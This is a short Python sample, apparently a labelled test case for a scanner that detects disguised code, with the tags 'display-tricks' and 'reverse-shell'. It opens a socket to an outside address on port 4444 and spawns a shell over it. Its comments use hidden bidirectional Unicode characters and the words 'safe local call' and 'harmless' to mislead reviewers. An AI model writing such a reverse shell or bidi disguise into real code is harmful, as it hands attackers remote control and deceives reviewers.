# must: display-tricks, reverse-shell
import socket, os, pty
s = socket.create_connection(("198.51.100.3", 4444))  # ‮ safe local call ⁦
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")  # "⁧ harmless⁩"
